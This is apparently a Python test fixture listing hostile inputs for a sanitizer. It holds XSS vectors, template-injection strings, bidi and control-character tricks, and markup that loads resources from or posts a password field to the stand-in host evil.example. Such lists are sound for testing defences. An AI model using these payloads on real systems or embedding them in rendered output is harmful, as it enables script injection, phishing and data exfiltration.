"""What hostile letters and questions hold: markup that would load, run, ask or disguise something."""

HOST = "https://evil.example"
PAYLOADS = (
    f"<img src={HOST}/a onerror=alert(1)>",
    f"<script src={HOST}/b></script>",
    "<svg onload=alert(1)><image href=https://evil.example/c /></svg>",
    f"![x]({HOST}/d.png)",
    f"[x]: {HOST}/e\n\n![][x]",
    f"<div style=\"background:url('{HOST}/f')\">",
    f"<form action={HOST}/g><input name=pw autofocus></form>",
    f"<iframe src={HOST}/h></iframe>",
    f"<video poster={HOST}/i><source src={HOST}/j></video>",
    f"<style>@import '{HOST}/k';</style>",
    f"<meta http-equiv=refresh content='0;url={HOST}/l'>",
    f"<base href={HOST}/>",
    f"<a href=javascript:alert(1)>{HOST}/m</a>",
    '"><img src=x onerror=alert(2)>',
    "' onmouseover='alert(3)",
    "</p></blockquote></li></ol></article>\n\n# Überschrift\n\n- Punkt\n\n```html\n<b>x</b>\n```",
    "$$\\href{https://evil.example/n}{x}$$ ~~a~~ **b** __c__ `d` | e |",
    "&lt;img src=x onerror=alert(4)&gt;",
    "{{constructor.constructor('alert(5)')()}} ${alert(6)}",
    "Vorlage \u202e22/1352FA\u202c und \u2066x\u2069 \x00\x07\x1b[31m",
    "\ud800 allein",
)
